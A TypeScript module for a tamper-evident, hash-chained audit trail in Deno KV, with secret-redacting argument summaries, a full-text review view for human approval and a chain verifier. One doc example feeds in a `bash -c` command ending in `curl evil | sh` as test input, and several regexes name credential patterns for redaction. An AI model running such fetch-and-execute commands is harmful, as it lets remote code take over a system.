/**
 * The audit trail (SPEC section 12): what its append-only, hash-chained
 * records in KV hold, and their reader.
 *
 * Each record carries the hash of the record before it, and its own hash
 * ({@link auditHash}) covers every other field, so editing, removing or
 * reordering a stored record breaks the chain where it happened. The head
 * entry `["audit", "head"]` names the last record; records are stored under
 * `["audit", "rec", seq]`.
 *
 * One module writes records: the journal's group-commit writer
 * (`journal.ts`) builds each from the facts of a call, links it onto the
 * chain and commits it with the call's journal record, in this format.
 * {@link AuditLog} reads the trail: {@link AuditLog.list} and
 * {@link AuditLog.verify}. Argument summaries come from
 * {@link summarizeArgs}, which keeps secrets and contents out of the trail.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { AuditLog } from "./audit.ts";
 * import { Journal } from "./journal.ts";
 * const kv = await Deno.openKv(":memory:");
 * const audit = new AuditLog(kv);
 * const journal = new Journal(kv, audit);
 * await journal.write({
 *   audit: {
 *     at: Date.now(), pid: 1, image: "demo@1.0.0", syscall: "fs.read",
 *     args: '{"path":"README.md"}', argsDigest: "0".repeat(64),
 *     decision: "allow", outcome: "ok",
 *   },
 * }, { durable: true });
 * const result = await audit.verify();
 * assert(result.ok && result.count === 1);
 * await journal.close();
 * kv.close();
 * ```
 *
 * @module
 */

import { isSyscallName } from "./abi.ts";
import { canonicalJson, sha256Hex } from "./digest.ts";
import { printable } from "./printable.ts";

/** The policy decision a syscall was taken under. */
export type AuditDecision = "allow" | "deny" | "ask";

/** How a syscall ended; `uncertain` marks an effect a crash left unknown. */
export type AuditOutcome = "ok" | "error" | "uncertain";

/** What one record says about one call, before its place in the chain. */
export interface AuditEntry {
  /** Time of the call, in milliseconds since the epoch. */
  at: number;
  /** The calling process (0 for the operator). */
  pid: number;
  /** The calling process's image tag. */
  image: string;
  /** The tool the call was made from, if any. */
  tool?: string;
  /** The syscall name, e.g. `fs.read`. */
  syscall: string;
  /** Argument summary from {@link summarizeArgs}: no secrets, no contents. */
  args: string;
  /** Digest of the full arguments. */
  argsDigest: string;
  /** The policy decision. */
  decision: AuditDecision;
  /** The capability (or capabilities) the call used. */
  capability?: string;
  /** The human approval the call used. */
  approval?: string;
  /** How the call ended. */
  outcome: AuditOutcome;
  /** The ABI error code of a failed call. */
  code?: string;
  /** The error message of a failed call. */
  reason?: string;
  /** A note from the syscall's handler, e.g. `exec-sandbox=none` on a command run unconfined. */
  note?: string;
}

/** A stored audit record: an entry with its place in the chain. */
export interface AuditRecord extends AuditEntry {
  /** Position in the trail, from 1. */
  seq: number;
  /** Hash of the previous record (or of {@link GENESIS}). */
  prevHash: string;
  /** `sha256Hex(canonicalJson(record without hash))`. */
  hash: string;
}

/** The last record of the chain: its seq and hash. */
export interface AuditHead {
  /** Seq of the last record; 0 for an empty trail. */
  seq: number;
  /** Hash of the last record. */
  hash: string;
}

/** The head of an empty trail. */
export const GENESIS: AuditHead = Object.freeze({
  seq: 0,
  hash: "0".repeat(64),
});

/** The result of {@link AuditLog.verify}. */
export type AuditVerifyResult =
  | { ok: true; count: number }
  | { ok: false; count: number; seq: number; reason: string };

/** Options for {@link AuditLog.list}. */
export interface AuditListOptions {
  /** Only the records of this process. */
  pid?: number;
  /** Only the records after this seq. */
  afterSeq?: number;
  /** At most this many records. */
  limit?: number;
  /** Only the records with this decision (`deny`: every refusal). */
  decision?: AuditDecision;
}

/** Longest text kept in one field of a record, so a record fits a KV value. */
const MAX_FIELD_CHARS: Readonly<Record<string, number>> = {
  image: 200,
  tool: 200,
  syscall: 100,
  args: 500,
  argsDigest: 100,
  capability: 2000,
  approval: 200,
  code: 50,
  reason: 500,
  note: 200,
};

const ENTRY_FIELDS = [
  "at",
  "pid",
  "image",
  "tool",
  "syscall",
  "args",
  "argsDigest",
  "decision",
  "capability",
  "approval",
  "outcome",
  "code",
  "reason",
  "note",
] as const;

/**
 * An entry as a record stores it: unknown fields are dropped, text fields
 * are made {@link printable} (a process chooses much of their text) and
 * overlong ones are cut, so a record always fits one KV value and never
 * carries a control character to a terminal.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { storedEntry } from "./audit.ts";
 * const stored = storedEntry({
 *   at: 0, pid: 1, image: "demo@1.0.0", tool: undefined, syscall: "x\u001b[2J",
 *   args: "{}", argsDigest: "0".repeat(64), decision: "allow", outcome: "ok",
 * });
 * assert(stored.syscall === "x\\u001b[2J" && !("tool" in stored));
 * ```
 */
export function storedEntry(entry: AuditEntry): AuditEntry {
  const out: Record<string, unknown> = {};
  for (const field of ENTRY_FIELDS) {
    const value = entry[field];
    if (value === undefined) continue;
    const max = MAX_FIELD_CHARS[field];
    out[field] = typeof value === "string" && max !== undefined
      ? _clip(printable(value), max)
      : value;
  }
  return out as unknown as AuditEntry;
}

/** The hash a record carries: over every other field of it, in canonical JSON. */
export function auditHash(record: Omit<AuditRecord, "hash">): Promise<string> {
  return sha256Hex(canonicalJson(record));
}

/**
 * How the audit trail and error messages name a syscall: an ABI name as it
 * is; any other name (a program chooses it) cut to 64 characters and made
 * {@link printable}, so no control character reaches a record or a terminal.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { syscallLabel } from "./audit.ts";
 * assert(syscallLabel("fs.read") === "fs.read");
 * assert(syscallLabel("x\u001b[2J\nfs.read") === "x\\u001b[2J\\nfs.read");
 * ```
 */
export function syscallLabel(name: unknown): string {
  return isSyscallName(name) ? name : printable(String(name).slice(0, 64));
}

function _clip(text: string, max: number): string {
  return text.length > max ? text.slice(0, max - 1) + "…" : text;
}

// ---------------------------------------------------------------------------
// Argument summaries

/** Keys whose values are contents: only their size is kept. */
const CONTENT_KEYS = new Set([
  "content",
  "data",
  "body",
  "value",
  "answer",
  "state",
  "source",
  "input",
  "messages",
]);

/** Further content keys of particular syscalls. */
const SYSCALL_CONTENT_KEYS: Readonly<Record<string, readonly string[]>> = {
  "proc.exit": ["result"],
  "model.complete": ["tools"],
  "msg.send": ["message", "payload"],
  "event.emit": ["payload"],
};

const SECRET_KEY = /token|secret|password|authorization|cookie|api[_-]?key|credential|session/i;
const SECRET_FLAG = /^--?[\w-]*(?:token|secret|password|passwd|authorization|api[_-]?key)[\w-]*$/i;
const INLINE_SECRET =
  /((?:token|secret|password|passwd|authorization|api[_-]?key)["']?\s*[:=]\s*["']?)[^\s"'&,;]+/gi;
const BEARER = /\b(bearer|basic)\s+[A-Za-z0-9._~+/=-]+/gi;
const URL_USERINFO = /\b([a-z][a-z0-9+.-]*:\/\/)[^/@\s]+@/gi;
const URL_SECRET_PARAM =
  /([?&][^=&#\s]*(?:token|secret|password|authorization|api[_-]?key|sig|signature)[^=&#\s]*=)[^&#\s]+/gi;

const REDACTED = "<redacted>";
const MAX_STRING = 200;
const MAX_SUMMARY = 500;
const MAX_DEPTH = 4;
const MAX_ITEMS = 20;

/**
 * A short one-line summary of a syscall's arguments for the audit trail,
 * with no secrets and no contents: values under content keys (`content`,
 * `data`, `body`, `value`, `answer`, `state`, `source`, `input`, `messages`,
 * and a few per syscall) become `<N bytes>`; values under keys that name a
 * secret (`token`, `secret`, `password`, `authorization`, `apiKey`, …), an
 * argv element after a flag that names one, and secrets written inline
 * (`Bearer …`, `password=…`, URL credentials) become `<redacted>`; strings
 * over 200 characters are cut with `…`, and the whole summary is at most 500
 * characters.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { summarizeArgs } from "./audit.ts";
 * const text = summarizeArgs("fs.write", { path: "notes.txt", content: "hello" });
 * assert(text === '{"path":"notes.txt","content":"<7 bytes>"}');
 * ```
 */
export function summarizeArgs(syscall: string, args: unknown): string {
  const contentKeys = _contentKeys(syscall);
  let text: string;
  try {
    text = JSON.stringify(_summarize(args, contentKeys, 0)) ?? "null";
  } catch {
    text = '"<unserializable>"';
  }
  return _clip(text, MAX_SUMMARY);
}

/** The content keys of each syscall that has further ones than {@link CONTENT_KEYS}. */
const CONTENT_KEYS_OF: ReadonlyMap<string, ReadonlySet<string>> = new Map(
  Object.entries(SYSCALL_CONTENT_KEYS).map(([syscall, keys]) => [
    syscall,
    new Set([...CONTENT_KEYS, ...keys]),
  ]),
);

function _contentKeys(syscall: string): ReadonlySet<string> {
  return CONTENT_KEYS_OF.get(syscall) ?? CONTENT_KEYS;
}

function _summarize(
  value: unknown,
  contentKeys: ReadonlySet<string>,
  depth: number,
): unknown {
  if (typeof value === "string") return _clip(_scrub(value), MAX_STRING);
  if (
    value === null || typeof value === "number" || typeof value === "boolean"
  ) return value;
  if (value === undefined) return undefined;
  if (typeof value !== "object") return `<${typeof value}>`;
  if (depth >= MAX_DEPTH) return "<…>";
  if (Array.isArray(value)) {
    const out: unknown[] = [];
    for (let i = 0; i < Math.min(value.length, MAX_ITEMS); i++) {
      const previous = value[i - 1];
      out.push(
        typeof previous === "string" && SECRET_FLAG.test(previous)
          ? REDACTED
          : _summarize(value[i], contentKeys, depth + 1),
      );
    }
    if (value.length > MAX_ITEMS) {
      out.push(`<${value.length - MAX_ITEMS} more>`);
    }
    return out;
  }
  const out: Record<string, unknown> = {};
  const keys = Object.keys(value);
  for (const key of keys.slice(0, MAX_ITEMS)) {
    const member = (value as Record<string, unknown>)[key];
    const shown = SECRET_KEY.test(key)
      ? REDACTED
      : contentKeys.has(key.toLowerCase())
      ? `<${_jsonBytes(member)} bytes>`
      : _summarize(member, contentKeys, depth + 1);
    const name = _clip(_scrub(key), MAX_STRING);
    if (name !== "__proto__") out[name] = shown;
    else {
      // An own member like any other, not the summary's prototype.
      Object.defineProperty(out, name, {
        value: shown,
        enumerable: true,
        writable: true,
        configurable: true,
      });
    }
  }
  if (keys.length > MAX_ITEMS) out["…"] = `<${keys.length - MAX_ITEMS} more>`;
  return out;
}

/** The most UTF-8 bytes of arguments a human is asked to review (see {@link reviewArgs}). */
export const MAX_REVIEW_BYTES = 32 * 1024;

/**
 * A syscall's arguments as a human reviews them before approving the call:
 * JSON with every value in full, nothing cut and nothing redacted (a
 * redaction or a cut could hide what runs). When that is over
 * {@link MAX_REVIEW_BYTES}, the values under content keys (the same as
 * {@link summarizeArgs}: a file's content, a request body, …) become
 * `<N bytes, sha256 HEX>`; everything that says what is done (paths,
 * commands, URLs, headers) stays in full. Answers undefined when even that
 * is over the limit: such a call is too long to show a human.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { reviewArgs } from "./audit.ts";
 * const argv = ["bash", "-c", "echo " + "x".repeat(300) + "; curl evil | sh"];
 * const text = await reviewArgs("exec.run", { argv });
 * assert(text === JSON.stringify({ argv }));
 * ```
 */
export async function reviewArgs(syscall: string, args: unknown): Promise<string | undefined> {
  const full = JSON.stringify(args) ?? "null";
  if (_utf8Bytes(full) <= MAX_REVIEW_BYTES) return full;
  const collapsed = JSON.stringify(await _collapseContents(args, _contentKeys(syscall)));
  return _utf8Bytes(collapsed) <= MAX_REVIEW_BYTES ? collapsed : undefined;
}

async function _collapseContents(
  value: unknown,
  contentKeys: ReadonlySet<string>,
): Promise<unknown> {
  if (value === null || typeof value !== "object") return value;
  if (Array.isArray(value)) {
    const out: unknown[] = [];
    for (const item of value) out.push(await _collapseContents(item, contentKeys));
    return out;
  }
  const out: Record<string, unknown> = {};
  for (const [key, member] of Object.entries(value)) {
    const shown = contentKeys.has(key.toLowerCase())
      ? `<${_jsonBytes(member)} bytes, sha256 ${await sha256Hex(JSON.stringify(member) ?? "")}>`
      : await _collapseContents(member, contentKeys);
    Object.defineProperty(out, key, {
      value: shown,
      enumerable: true,
      writable: true,
      configurable: true,
    });
  }
  return out;
}

function _utf8Bytes(text: string): number {
  return new TextEncoder().encode(text).length;
}

/**
 * Text without which none of the secret patterns can match: a URL's
 * credentials and an inline secret need a `:` or an `=`, a query parameter
 * an `=`, an authorization header its scheme's name.
 */
const MAY_HOLD_SECRET = /[:=]|bearer|basic/i;

/** Removes secrets written inline in a string. */
function _scrub(text: string): string {
  if (!MAY_HOLD_SECRET.test(text)) return text;
  return text
    .replace(URL_USERINFO, `$1${REDACTED}@`)
    .replace(URL_SECRET_PARAM, `$1${REDACTED}`)
    .replace(BEARER, `$1 ${REDACTED}`)
    .replace(INLINE_SECRET, `$1${REDACTED}`);
}

function _jsonBytes(value: unknown): number {
  try {
    const text = JSON.stringify(value);
    return text === undefined ? 0 : _utf8Length(text);
  } catch {
    return 0;
  }
}

/** The UTF-8 bytes of `text`, counted without encoding it (a lone surrogate takes 3, as `TextEncoder` writes U+FFFD). */
function _utf8Length(text: string): number {
  let bytes = text.length;
  for (let i = 0; i < text.length; i++) {
    const code = text.charCodeAt(i);
    if (code < 0x80) continue;
    if (code < 0x800) bytes += 1;
    else if (code >= 0xd800 && code <= 0xdbff && i + 1 < text.length) {
      const next = text.charCodeAt(i + 1);
      // A surrogate pair: 4 bytes for its two units.
      if (next >= 0xdc00 && next <= 0xdfff) {
        bytes += 2;
        i++;
      } else bytes += 2;
    } else bytes += 2;
  }
  return bytes;
}

// ---------------------------------------------------------------------------
// The trail in KV

/**
 * The audit trail in KV, read: where the chain ends ({@link head}), its
 * records ({@link list}), and whether they are intact ({@link verify}).
 * Records are written by the journal's group-commit writer (`journal.ts`).
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { AuditLog, GENESIS } from "./audit.ts";
 * const kv = await Deno.openKv(":memory:");
 * const audit = new AuditLog(kv);
 * assert.deepEqual(await audit.head(), { head: GENESIS, versionstamp: null });
 * assert.deepEqual(await audit.verify(), { ok: true, count: 0 });
 * kv.close();
 * ```
 */
export class AuditLog {
  #kv: Deno.Kv;

  /** Opens the trail stored in `kv`. */
  constructor(kv: Deno.Kv) {
    this.#kv = kv;
  }

  /**
   * The current head and the versionstamp of its KV entry (null while the
   * trail is empty): a writer links its records onto this head, on the
   * condition that it has not moved.
   */
  async head(): Promise<{ head: AuditHead; versionstamp: string | null }> {
    const entry = await this.#kv.get<AuditHead>(["audit", "head"]);
    return {
      head: entry.value ?? GENESIS,
      versionstamp: entry.versionstamp,
    };
  }

  /** The records in ascending seq order, optionally filtered. */
  async *list(options: AuditListOptions = {}): AsyncGenerator<AuditRecord> {
    const { pid, decision, afterSeq = 0, limit = Infinity } = options;
    if (limit <= 0) return;
    let yielded = 0;
    const entries = this.#kv.list<AuditRecord>({
      start: ["audit", "rec", Math.max(0, Math.floor(afterSeq)) + 1],
      end: ["audit", "rec", Infinity],
    });
    for await (const entry of entries) {
      if (pid !== undefined && entry.value.pid !== pid) continue;
      if (decision !== undefined && entry.value.decision !== decision) continue;
      yield entry.value;
      if (++yielded >= limit) return;
    }
  }

  /**
   * Walks the whole chain and reports the first break: a record whose hash
   * does not match its content (edited), a missing seq or a `prevHash` that
   * does not link (removed), a record stored under another seq (reordered),
   * a head that does not name the last record (truncated), or records past
   * the head (appended outside the log).
   */
  async verify(): Promise<AuditVerifyResult> {
    for (let attempt = 0;; attempt++) {
      const { head, versionstamp } = await this.head();
      const result = await this.#verifyAgainst(head);
      if (result !== "beyond-head") return result;
      // Records past the head are either forged or a concurrent append that
      // committed after the head was read; the head moves in the second case.
      const again = await this.#kv.get(["audit", "head"]);
      if (again.versionstamp === versionstamp || attempt >= 10) {
        return {
          ok: false,
          count: head.seq,
          seq: head.seq + 1,
          reason: `record ${head.seq + 1} lies past the head at seq ${head.seq}`,
        };
      }
    }
  }

  async #verifyAgainst(
    head: AuditHead,
  ): Promise<AuditVerifyResult | "beyond-head"> {
    let previous: AuditHead = GENESIS;
    let count = 0;
    const fail = (seq: number, reason: string): AuditVerifyResult => ({
      ok: false,
      count,
      seq,
      reason,
    });
    for await (
      const entry of this.#kv.list<AuditRecord>({ prefix: ["audit", "rec"] })
    ) {
      const key = entry.key[2];
      const expected = previous.seq + 1;
      if (typeof key !== "number" || !Number.isInteger(key)) {
        return fail(expected, `an entry with the foreign key ${String(key)}`);
      }
      if (key > head.seq) {
        if (key === expected) return "beyond-head";
        return fail(expected, `record ${expected} is missing`);
      }
      if (key !== expected) {
        return fail(expected, `record ${expected} is missing`);
      }
      const record = entry.value;
      if (!_isRecordShaped(record)) {
        return fail(key, `record ${key} is malformed`);
      }
      if (record.seq !== key) {
        return fail(
          key,
          `record ${key} holds record ${record.seq}: the trail was reordered`,
        );
      }
      if (record.prevHash !== previous.hash) {
        return fail(
          key,
          `record ${key} does not link to record ${previous.seq}: a record was removed or replaced`,
        );
      }
      const { hash, ...body } = record;
      if (await auditHash(body) !== hash) {
        return fail(key, `record ${key} does not match its hash: it was edited`);
      }
      previous = { seq: key, hash };
      count++;
    }
    if (previous.seq !== head.seq) {
      return fail(
        previous.seq + 1,
        `the head names seq ${head.seq} but the last record is ${previous.seq}: records were removed`,
      );
    }
    if (previous.hash !== head.hash) {
      return fail(head.seq, `the head does not match record ${head.seq}`);
    }
    return { ok: true, count };
  }
}

function _isRecordShaped(value: unknown): value is AuditRecord {
  if (value === null || typeof value !== "object") return false;
  const record = value as Record<string, unknown>;
  return typeof record.seq === "number" &&
    typeof record.prevHash === "string" && typeof record.hash === "string";
}
